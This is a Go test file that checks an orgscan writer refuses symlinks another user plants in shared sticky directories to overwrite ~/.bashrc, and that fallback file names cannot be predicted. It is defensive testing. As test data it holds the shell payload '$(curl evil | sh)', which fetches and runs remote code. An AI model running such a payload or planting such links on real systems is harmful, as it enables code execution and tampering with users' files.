package sink

import (
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
)

// otherUID owns what another local user plants.
const otherUID = 4242

// needRoot skips tests that hand files to another user: only root may.
func needRoot(t *testing.T) {
	t.Helper()
	if runtime.GOOS == "windows" || os.Geteuid() != 0 {
		t.Skip("planting a link owned by another user needs root on a Unix system")
	}
}

// stickyDir is a shared directory like /tmp: sticky and world-writable.
func stickyDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o777|os.ModeSticky); err != nil {
		t.Fatal(err)
	}
	return dir
}

// plant makes a symbolic link at link to target, owned by uid.
func plant(t *testing.T, target, link string, uid int) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
	if err := os.Lchown(link, uid, uid); err != nil {
		t.Fatal(err)
	}
}

func TestWritingRefusesALinkAnotherUserPlantedInASharedDirectory(t *testing.T) {
	needRoot(t)
	for _, tc := range []struct {
		name string
		// setup plants the trap and returns the path orgscan is asked to
		// write and the file the trap aims at.
		setup func(t *testing.T, shared, home string) (path, aim string)
	}{
		{"a link to an existing file of the caller's is refused", func(t *testing.T, shared, home string) (string, string) {
			aim := filepath.Join(home, ".bashrc")
			writeFile(t, aim, "original")
			plant(t, aim, filepath.Join(shared, "orgscan-report.json"), otherUID)
			return filepath.Join(shared, "orgscan-report.json"), aim
		}},
		{"a dangling link is refused, and nothing is created where it points", func(t *testing.T, shared, home string) (string, string) {
			aim := filepath.Join(home, ".profile")
			plant(t, aim, filepath.Join(shared, "orgscan-report.json"), otherUID)
			return filepath.Join(shared, "orgscan-report.json"), aim
		}},
		{"a relative link is refused like an absolute one", func(t *testing.T, shared, home string) (string, string) {
			aim := filepath.Join(home, ".bashrc")
			writeFile(t, aim, "original")
			rel, err := filepath.Rel(shared, aim)
			if err != nil {
				t.Fatal(err)
			}
			plant(t, rel, filepath.Join(shared, "r.json"), otherUID)
			return filepath.Join(shared, "r.json"), aim
		}},
		{"a link to a directory on the way is refused", func(t *testing.T, shared, home string) (string, string) {
			aim := filepath.Join(home, ".bashrc")
			writeFile(t, aim, "original")
			plant(t, home, filepath.Join(shared, "reports"), otherUID)
			return filepath.Join(shared, "reports", ".bashrc"), aim
		}},
		{"a planted link behind a link of the caller's own is refused", func(t *testing.T, shared, home string) (string, string) {
			aim := filepath.Join(home, ".bashrc")
			writeFile(t, aim, "original")
			plant(t, aim, filepath.Join(shared, "trap.json"), otherUID)
			mine := filepath.Join(t.TempDir(), "latest.json")
			plant(t, filepath.Join(shared, "trap.json"), mine, os.Geteuid())
			return mine, aim
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			shared, home := stickyDir(t), t.TempDir()
			path, aim := tc.setup(t, shared, home)
			before, beforeErr := os.ReadFile(aim)

			for _, op := range []struct {
				name string
				call func() error
			}{
				{"CheckWritable", func() error { return CheckWritable(path) }},
				{"writeFileAtomic", func() error { return writeFileAtomic(path, 0o600, writeString("$(curl evil | sh)")) }},
			} {
				err := op.call()
				var unsafe *UnsafeLinkError
				if !errors.As(err, &unsafe) {
					t.Fatalf("%s(%s) = %v, want an UnsafeLinkError", op.name, path, err)
				}
				msg := err.Error()
				if strings.Contains(msg, "\n") || !strings.Contains(msg, path) || !strings.Contains(msg, "remove the link") {
					t.Errorf("%s: error %q is not one line naming the path and the fix", op.name, msg)
				}
				if unsafe.UID != otherUID {
					t.Errorf("%s: error names uid %d, want the planter's %d", op.name, unsafe.UID, otherUID)
				}
			}
			after, afterErr := os.ReadFile(aim)
			if string(after) != string(before) || (beforeErr == nil) != (afterErr == nil) {
				t.Errorf("%s changed: %q (%v) became %q (%v)", aim, before, beforeErr, after, afterErr)
			}
			if got := dirEntries(t, home); len(got) > 1 {
				t.Errorf("files appeared beside the aim: %v", got)
			}
		})
	}
}

func TestWritingFollowsLinksTheKernelWouldFollow(t *testing.T) {
	needRoot(t)
	for _, tc := range []struct {
		name string
		// setup returns the directory for the link and the link's owner.
		setup func(t *testing.T) (dir string, owner int)
	}{
		{"the caller's own link in a shared directory", func(t *testing.T) (string, int) {
			return stickyDir(t), os.Geteuid()
		}},
		{"another user's link in a directory that is not world-writable", func(t *testing.T) (string, int) {
			dir := t.TempDir()
			if err := os.Chmod(dir, 0o755|os.ModeSticky); err != nil {
				t.Fatal(err)
			}
			return dir, otherUID
		}},
		{"a link of the shared directory's owner", func(t *testing.T) (string, int) {
			dir := stickyDir(t)
			if err := os.Chown(dir, otherUID, otherUID); err != nil {
				t.Fatal(err)
			}
			return dir, otherUID
		}},
	} {
		t.Run(tc.name+" is followed: the target is replaced and the link stays", func(t *testing.T) {
			dir, owner := tc.setup(t)
			reports := filepath.Join(dir, "reports")
			if err := os.Mkdir(reports, 0o700); err != nil {
				t.Fatal(err)
			}
			target := filepath.Join(reports, "2026-q4.json")
			writeFile(t, target, "old")
			link := filepath.Join(dir, "latest.json")
			plant(t, filepath.Join("reports", "2026-q4.json"), link, owner)

			if err := CheckWritable(link); err != nil {
				t.Fatalf("CheckWritable: %v", err)
			}
			if err := writeFileAtomic(link, 0o600, writeString("new")); err != nil {
				t.Fatalf("writeFileAtomic: %v", err)
			}
			checkFile(t, target, "new", 0o600)
			if fi, err := os.Lstat(link); err != nil || fi.Mode()&os.ModeSymlink == 0 {
				t.Errorf("the link was replaced: %v %v", fi, err)
			}
		})
	}
}

func TestResolveFollowsLinksByComponent(t *testing.T) {
	dir := t.TempDir()
	for _, d := range []string{"a/b", "c"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	links := map[string]string{
		"up":      "a/b/..",       // a, by way of b
		"deep":    "a/b",          // a directory link
		"viadeep": "deep/../../c", // .. after a link leaves the link's target, not the link
		"loop1":   "loop2",
		"loop2":   "loop1",
	}
	for name, target := range links {
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			t.Skipf("no symbolic links here: %v", err)
		}
	}
	for _, tc := range []struct {
		name, path, want, wantErr string
	}{
		{"a path without links is returned cleaned", "a/./b//x.json", "a/b/x.json", ""},
		{"a directory link is followed", "deep/x.json", "a/b/x.json", ""},
		{"dot-dot inside a link's target applies after the link", "viadeep/x.json", "c/x.json", ""},
		{"dot-dot after a resolved directory goes up by name", "up/b/x.json", "a/b/x.json", ""},
		{"a missing directory ends the walk with the rest as given", "nope/../x.json", "nope/../x.json", ""},
		{"a loop of links is an error", "loop1", "", "too many symbolic links"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := resolve(dir + string(filepath.Separator) + filepath.FromSlash(tc.path))
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("resolve = %q, %v; want an error saying %q", got, err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if want := dir + string(filepath.Separator) + filepath.FromSlash(tc.want); got != want {
				t.Errorf("resolve = %q, want %q", got, want)
			}
		})
	}
}

func TestWriteFallback(t *testing.T) {
	started := time.Date(2026, 11, 30, 9, 30, 0, 123e6, time.UTC)
	body := []byte(`{"scan":{}}`)

	t.Run("a link planted at the name a clock would predict is not followed", func(t *testing.T) {
		dir, home := t.TempDir(), t.TempDir()
		victim := filepath.Join(home, ".bashrc")
		writeFile(t, victim, "original")
		// The names the review planted: one per millisecond around the
		// scan's start, in the old orgscan-fallback-<UTC ms> form, and the
		// same stamps in whole seconds.
		var planted []string
		for ms := -50; ms <= 50; ms++ {
			at := started.Add(time.Duration(ms) * time.Millisecond)
			for _, stamp := range []string{strings.ReplaceAll(at.Format("20060102T150405.000Z"), ".", ""), at.Format("20060102T150405Z")} {
				link := filepath.Join(dir, "orgscan-fallback-"+stamp+".json")
				if err := os.Symlink(victim, link); err != nil && !errors.Is(err, os.ErrExist) {
					t.Fatal(err)
				}
				planted = append(planted, link)
			}
		}
		path, err := writeFallback(dir, ScanName, started, ".json", body)
		if err != nil {
			t.Fatal(err)
		}
		checkFile(t, victim, "original", 0o600)
		for _, p := range planted {
			if p == path {
				t.Fatalf("the fallback went to the planted name %s", p)
			}
		}
		if filepath.Dir(path) != dir {
			t.Errorf("fallback %s is not in the working directory %s", path, dir)
		}
		checkFile(t, path, string(body), 0o600)
		if fi, err := os.Lstat(path); err != nil || !fi.Mode().IsRegular() {
			t.Errorf("the fallback is not a regular file of its own: %v %v", fi, err)
		}
	})

	t.Run("the name is not predictable from the time: two fallbacks of one scan differ", func(t *testing.T) {
		dir := t.TempDir()
		a, err := writeFallback(dir, ScanName, started, ".json", body)
		if err != nil {
			t.Fatal(err)
		}
		b, err := writeFallback(dir, ScanName, started, ".json", body)
		if err != nil {
			t.Fatal(err)
		}
		if a == b {
			t.Fatalf("both fallbacks are %s", a)
		}
		stamp := "orgscan-fallback-" + started.Format("20060102T150405Z") + "-"
		for _, p := range []string{a, b} {
			random, ok := strings.CutPrefix(strings.TrimSuffix(filepath.Base(p), ".json"), stamp)
			if !ok || len(random) < 20 {
				t.Errorf("%s: want the scan time, then at least 20 random characters", filepath.Base(p))
			}
		}
		checkFile(t, a, string(body), 0o600)
		checkFile(t, b, string(body), 0o600)
	})

	t.Run("a directory that takes no file sends the fallback to TMPDIR", func(t *testing.T) {
		tmp := t.TempDir()
		t.Setenv("TMPDIR", tmp)
		path, err := writeFallback(filepath.Join(t.TempDir(), "missing"), ScanName, started, ".csv", body)
		if err != nil {
			t.Fatal(err)
		}
		if filepath.Dir(path) != tmp || !strings.HasSuffix(path, ".csv") {
			t.Errorf("fallback %s, want a .csv file in %s", path, tmp)
		}
		checkFile(t, path, string(body), 0o600)
	})

	t.Run("when neither directory takes a file, the error names both", func(t *testing.T) {
		t.Setenv("TMPDIR", filepath.Join(t.TempDir(), "gone"))
		missing := filepath.Join(t.TempDir(), "missing")
		_, err := writeFallback(missing, ScanName, started, ".json", body)
		if err == nil || !strings.Contains(err.Error(), missing) || !strings.Contains(err.Error(), "gone") {
			t.Errorf("error %v, want one naming both directories", err)
		}
	})
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}
